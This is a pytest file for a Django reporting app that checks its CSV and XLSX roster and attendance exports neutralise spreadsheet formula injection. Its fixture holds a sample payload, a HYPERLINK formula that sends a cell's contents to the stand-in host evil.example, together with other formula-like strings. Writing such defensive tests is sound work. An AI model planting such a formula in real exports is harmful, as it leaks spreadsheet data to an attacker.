"""A name that looks like a formula comes out as text, never as a formula."""

import datetime

import pytest
from django.urls import reverse

from assignments.factories import AssignmentFactory
from briefings.factories import AttendanceFactory
from registry.factories import FacilitatorFactory
from tests.reports.read import csv_table, rows_after_header, xlsx_sheet

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'


@pytest.fixture
def hostile(db):
    posting = AssignmentFactory(
        facilitator__name=HOSTILE,
        decree_number="+1+1",
        kelurahan__name="@SUM(1)",
        start_date=datetime.date(2019, 1, 2),
    )
    FacilitatorFactory(name="-2+3", joined_on=datetime.date(2018, 1, 1))  # in reserve
    AttendanceFactory(facilitator=posting.facilitator, note="=1+1")
    return posting


def test_the_csv_neutralises_cells_that_start_like_a_formula(supervisor, hostile):
    table = csv_table(supervisor.get(reverse("reports:roster-csv")))
    row = next(row for row in table if HOSTILE in row[4])
    assert row[4] == "'" + HOSTILE
    assert row[3] == "'@SUM(1)"
    assert row[7] == "'+1+1"
    # The status, before the last column (the day the roster shows).
    assert [row[4] for row in table if row[-2] == "Cadangan"] == ["'-2+3"]
    # No cell of the file starts with a formula character any more.
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in table for cell in row)


def test_the_xlsx_keeps_them_as_text_cells(supervisor, hostile):
    sheet = xlsx_sheet(supervisor.get(reverse("reports:roster-xlsx")))
    cells = [cell for row in sheet.iter_rows(min_row=6) for cell in row if cell.value]
    hostile_cells = [cell for cell in cells if str(cell.value).startswith(("=", "+", "-", "@"))]
    assert {cell.value for cell in hostile_cells} == {HOSTILE, "@SUM(1)", "+1+1", "-2+3"}
    for cell in hostile_cells:
        assert cell.data_type == "s", cell.coordinate
        assert cell.quotePrefix, cell.coordinate


def test_notes_of_the_attendance_sheet_are_neutralised_too(supervisor, hostile):
    briefing = hostile.facilitator.attendances.get().session.briefing
    briefing.invitees.add(hostile.facilitator)
    url = reverse("reports:attendance-sheet-csv", kwargs={"pk": briefing.pk})
    table = csv_table(supervisor.get(url))
    assert table[1][1] == "'" + HOSTILE
    assert table[1][-1] == "'=1+1"
    sheet = xlsx_sheet(
        supervisor.get(reverse("reports:attendance-sheet-xlsx", kwargs={"pk": briefing.pk}))
    )
    assert rows_after_header(sheet)[0][1] == HOSTILE
    assert sheet["B6"].data_type == "s"
